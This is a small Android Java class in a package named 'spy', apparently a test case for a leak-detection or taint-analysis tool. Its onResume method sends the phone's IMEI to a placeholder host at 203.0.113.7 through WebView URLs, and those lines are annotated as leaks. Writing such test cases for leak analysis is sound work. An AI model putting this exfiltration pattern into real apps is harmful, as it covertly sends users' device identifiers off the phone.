package spy;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.webkit.WebView;

/** One object for all of the app holds what is known of the phone. */
public class Config extends Activity {
    static final class Phone {
        private static Phone only;
        private String imei;
        private String operator;

        static synchronized Phone get() {
            if (only == null) only = new Phone();
            return only;
        }

        Phone imei(String text) {
            this.imei = text;
            return this;
        }

        Phone operator(String text) {
            this.operator = text;
            return this;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService("phone");
        Phone.get().imei(phone.getDeviceId()).operator("none");
    }

    @Override
    protected void onResume() {
        WebView page = new WebView(this);
        page.loadUrl("http://203.0.113.7/?d=" + Phone.get().imei); // leak
        page.loadUrl("javascript:set('" + Phone.get().imei + "')"); // leak
        page.loadUrl("http://203.0.113.7/?o=" + Phone.get().operator); // no leak
    }
}
